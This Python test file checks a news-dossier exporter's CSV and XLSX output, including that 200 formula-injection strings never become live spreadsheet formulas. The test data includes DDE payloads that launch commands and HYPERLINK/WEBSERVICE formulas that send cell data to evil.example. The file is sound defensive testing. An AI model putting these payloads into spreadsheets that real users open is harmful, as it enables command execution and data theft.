"""CSV and XLSX, read by others; nothing in them is a formula; the forecast ledger."""

import csv
import io
import shutil
import subprocess
import unicodedata
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest

from tawatur.model.evidence import Evidence
from tawatur.model.span import Span
from tawatur.publish import Dossier
from tawatur.publish.dossier import Name
from tawatur.publish.exports import exported
from tawatur.publish.exports.ledgers import COLUMNS
from tawatur.publish.wording import LANGUAGES, wording

SIGNS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\uff1d", "\uff0b", "\uff0d", "\uff20", "\ufe62")
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example/?x="&A1,"open")',
    "cmd|' /C calc'!A0",
    'WEBSERVICE("http://evil.example")',
    "IMPORTXML(A1)",
    "DDE(A1)",
    "2+5+cmd|' /C calc'!A0",
    '"',
    "A1,\n=A2",
    "A1\r\n=A2",
    '1";=1+1',
    "@SUM(1)",
    "+1",
    "\u202e1+1",
)
HOSTILE = [sign + body for sign in SIGNS for body in BODIES][:200]
"""200 texts that a spreadsheet could run."""


def tables(dossier: Dossier, lang: str) -> dict[str, list[dict[str, str]]]:
    """The CSV files as records."""
    with zipfile.ZipFile(io.BytesIO(exported(dossier, "csv", lang))) as file:
        texts = {name.removesuffix(".csv"): file.read(name).decode("utf-8") for name in file.namelist()}
    return {name: list(csv.DictReader(io.StringIO(text, newline=""), strict=True)) for name, text in texts.items()}


def book_of(dossier: Dossier, lang: str) -> openpyxl.Workbook:
    """The workbook as openpyxl reads it."""
    return openpyxl.load_workbook(io.BytesIO(exported(dossier, "xlsx", lang)))


@pytest.fixture(scope="module")
def hostile(dossier: Dossier) -> Dossier:
    """A dossier in which 200 reports quote, and as many actors are called, what would be a formula."""
    story = dossier.stories[0]
    text = "\u0001".join(HOSTILE)
    article = replace(story.articles[0], text=text, marks=(), dropped=(), headline=None, name=HOSTILE[0])
    starts, at = [], 0
    for words in HOSTILE:
        starts.append(at)
        at += len(words) + 1
    reports = []
    for number, (start, words) in enumerate(zip(starts, HOSTILE, strict=True)):
        evidence = Evidence(article.id, Span(start, start + len(words)), words)
        parts = {"evidence": evidence, "quote": evidence, "passage": evidence, "cue": None, "chain": ()}
        reports.append(replace(story.reports[0], id=f"h{number}", document=article.id, **parts))
    actors = [
        replace(story.actors[0], name=Name(f"k{n}", en=words), spellings=(words,)) for n, words in enumerate(HOSTILE)
    ]
    finding = replace(
        story.findings[-1], head="h0", claims=tuple(r.id for r in reports), denials=(), words=reports[0].evidence,
        clashes=(), expectations=(), retractions=(),
    )  # fmt: skip
    blank = {"clashes": (), "expectations": (), "timeline": (), "copies": (), "passages": (), "headline": None}
    blank["title"] = replace(story.title, headline=None)
    agency = replace(article.outlet, evidence=None)
    article = replace(article, outlet=agency, agency=replace(agency, name=None), dateline=replace(agency, name=None))
    made = replace(
        story, articles=(article,), reports=tuple(reports), findings=(finding,), actors=tuple(actors), **blank
    )
    return Dossier((made,), (), ())


def test_csv_is_plain_utf_8_with_the_same_heads_in_every_language(dossier: Dossier) -> None:
    for lang in LANGUAGES:
        with zipfile.ZipFile(io.BytesIO(exported(dossier, "csv", lang))) as file:
            assert [name.removesuffix(".csv") for name in file.namelist()] == list(COLUMNS)
            for name in file.namelist():
                content = file.read(name)
                assert not content.startswith(b"\xef\xbb\xbf")
                assert content.endswith(b"\r\n")
                assert content.decode("utf-8").split("\r\n")[0].split(",") == COLUMNS[name.removesuffix(".csv")].split()


def test_every_record_is_a_row_and_every_quotation_its_words(dossier: Dossier) -> None:
    story, found = dossier.stories[0], tables(dossier, "en")
    assert [row["words"] for row in found["claims"]] == [report.evidence.words for report in story.reports]
    assert [row["proposition"] for row in found["propositions"]] == [finding.id for finding in story.findings]
    assert [row["words"] for row in found["denials"]] == ["لم نوقع أي صفقة قوارب"]
    assert found["denials"][0]["said_by"] == "Blue Palace"
    texts = {article.id: article.text for article in story.articles}
    for row in found["claims"]:
        assert texts[row["article"]][int(row["start"]) : int(row["stop"])] == row["words"]
    counts = [(row["outlets_count"], row["origins_lower"], row["origins_upper"]) for row in found["propositions"]]
    support = [finding.quoted for finding in story.findings]
    assert counts == [(str(len(one.outlets)), str(one.lower), str(one.upper)) for one in support]


def test_what_a_person_should_decide_is_a_row_with_the_keys_to_decide_by(dossier: Dossier) -> None:
    (row,) = tables(dossier, "en")["suggestions"]
    assert (row["proposed"], row["actor_a"], row["actor_b"]) == ("same", "org:palace", "palace")
    assert "القصر الأزرق" in row["reasons"]


def test_the_forecast_ledger_names_who_what_by_when_and_the_outcome(dossier: Dossier) -> None:
    first, second = tables(dossier, "en")["forecasts"]
    assert (first["who"], first["due"], first["outcome"]) == ("The Lantern", "2030-05-07", "changed")
    assert first["words"].startswith("سيلتقي") and first["outcome_words"].startswith("التقى")
    assert second["due"] == "no time stated"
    sheet = book_of(dossier, "ar")[wording("ar").term("sheet", "forecasts")]
    rows = [[cell.value for cell in row] for row in sheet.iter_rows()]
    due = rows[0].index(wording("ar").term("column", "due"))
    assert rows[2][due] == wording("ar").ui("due_none")
    assert wording("ar").term("outcome", "changed") in rows[1]


def test_reasons_name_names_and_no_keys(dossier: Dossier) -> None:
    reasons = [row["reasons"] for row in tables(dossier, "en")["contradictions"]]
    assert "One names Tall al-Rih as the place, the other Marsa al-Ghaym." in reasons


@pytest.mark.parametrize("lang", LANGUAGES)
def test_sheets_stand_in_the_direction_of_the_language(dossier: Dossier, lang: str) -> None:
    book = book_of(dossier, lang)
    assert book.sheetnames == [wording(lang).term("sheet", name) for name in COLUMNS]
    for sheet in book:
        assert sheet.sheet_view.rightToLeft is (lang == "ar")
    words = book[wording(lang).term("sheet", "claims")]["D2"]
    assert words.value == dossier.stories[0].reports[0].evidence.words
    assert words.alignment.readingOrder == 2


def test_no_column_and_no_sheet_lacks_a_label() -> None:
    for lang in LANGUAGES:
        tables = wording(lang).tables
        assert set(COLUMNS) == set(tables["sheet"])
        assert {key for columns in COLUMNS.values() for key in columns.split()} == set(tables["column"])
        assert all(len(str(title)) <= 31 for title in tables["sheet"].values())


@pytest.mark.parametrize("lang", LANGUAGES)
def test_of_two_hundred_formulas_none_is_one_in_a_workbook(hostile: Dossier, lang: str) -> None:
    assert len(HOSTILE) == 200
    cells = [cell for sheet in book_of(hostile, lang) for row in sheet.iter_rows() for cell in row]
    assert sum(cell.data_type == "f" for cell in cells) == 0
    assert sum(cell.quotePrefix for cell in cells) >= 200


def test_of_two_hundred_formulas_none_begins_a_cell_of_a_csv(hostile: Dossier) -> None:
    rows = tables(hostile, "en")
    assert len(rows["claims"]) == 200
    cells = [cell for records in rows.values() for row in records for cell in row.values()]
    seen = [unicodedata.normalize("NFKC", cell).lstrip() for cell in cells]
    assert sum(cell.startswith(tuple("=+-@")) for cell in seen) == 0


@pytest.mark.skipif(
    not shutil.which("soffice"), reason="LibreOffice is not installed: apt-get install libreoffice-calc"
)
def test_libreoffice_finds_no_formula_in_the_csv(hostile: Dossier, tmp_path: Path) -> None:
    with zipfile.ZipFile(io.BytesIO(exported(hostile, "csv", "en"))) as file:
        (tmp_path / "claims.csv").write_bytes(file.read("claims.csv"))
    opened = "--infilter=CSV:44,34,76,1,,0,false,true,false,false,false,-1,true"
    home = f"-env:UserInstallation=file://{tmp_path}/home"
    words = [
        "soffice",
        home,
        "--headless",
        opened,
        "--convert-to",
        "xlsx",
        "--outdir",
        str(tmp_path),
        str(tmp_path / "claims.csv"),
    ]
    subprocess.run(words, check=True, capture_output=True, timeout=120)
    book = openpyxl.load_workbook(next(tmp_path.glob("claims*.xlsx")))
    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert len(cells) > 2000
    assert sum(cell.data_type == "f" for cell in cells) == 0
